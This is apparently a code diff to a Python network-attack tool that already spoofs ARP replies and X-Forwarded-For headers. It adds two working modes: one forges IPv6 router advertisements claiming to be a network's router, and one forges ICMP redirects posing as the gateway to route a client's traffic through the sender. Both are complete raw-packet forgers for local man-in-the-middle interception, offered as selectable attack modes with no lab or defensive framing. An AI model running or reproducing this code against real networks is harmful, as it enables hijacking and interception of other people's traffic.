@@ -19,6 +19,7 @@ from typing import Any
 SECONDS = 1.0
 ARP, IPV4 = 0x0806, 0x0800
 SYN, SYN_ACK = 0x02, 0x12
+PREFIX = "2001:db8::"
 CHANGE = b'{"ingress": {"loss": "99%"}}'
 FORWARDED = (
     "X-Forwarded-For: {0}",
@@ -82,6 +83,37 @@ def pretend(gateway: str, seconds: str) -> dict[str, Any]:
                     wire.send(_arp(2, own, gateway, frame[6:12], socket.inet_ntoa(frame[28:32])))
             claims += 1
     return {"claims": claims}
+
+
+def advertise(client: str) -> dict[str, Any]:
+    """Say to everybody, and to the client alone, that we are the router of the network 2001:db8::/64 (RFC 4861)."""
+    prefix = struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 3600, 3600, 0, socket.inet_pton(socket.AF_INET6, PREFIX))
+    with _wire() as wire:
+        own = wire.getsockname()[4]
+        body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + prefix + b"\x01\x01" + own
+        router = socket.inet_pton(socket.AF_INET6, "fe80::66")
+        everyone = socket.inet_pton(socket.AF_INET6, "ff02::1")
+        body = body[:2] + _sum(router + everyone + struct.pack("!II", len(body), 58) + body) + body[4:]
+        head = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + router + everyone
+        targets = bytes.fromhex("333300000001"), bytes.fromhex(client.replace(":", ""))
+        for target in targets * 5:
+            wire.send(target + own + b"\x86\xdd" + head + body)
+            time.sleep(0.05)
+        return {"sent": 5 * len(targets)}
+
+
+def redirect(client: str, mac: str, gateway: str, target: str) -> dict[str, Any]:
+    """Say, as the gateway, that the way to `target` is by us (RFC 792)."""
+    own = socket.gethostbyname(socket.gethostname())
+    with _wire() as wire:
+        quoted = struct.pack("!BBHHHBBH", 0x45, 0, 28, 1, 0, 64, 17, 0) + _pair(client, target)
+        body = struct.pack("!BBH4s", 5, 1, 0, socket.inet_aton(own)) + quoted + struct.pack("!HHHH", 9, 9, 8, 0)
+        body = body[:2] + _sum(body) + body[4:]
+        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 64, 1, 0) + _pair(gateway, client)
+        frame = bytes.fromhex(mac.replace(":", "")) + wire.getsockname()[4] + b"\x08\x00"
+        for _ in range(5):
+            wire.send(frame + head[:10] + _sum(head) + head[12:] + body)
+        return {"sent": 5}
 
 
 def control(port: str) -> dict[str, Any]:
@@ -178,6 +210,8 @@ MODES: dict[str, Callable[..., dict[str, Any]]] = {
     "forwarded": forwarded,
     "spoof": spoof,
     "pretend": pretend,
+    "advertise": advertise,
+    "redirect": redirect,
     "control": control,
     "overwrite": overwrite,
 }
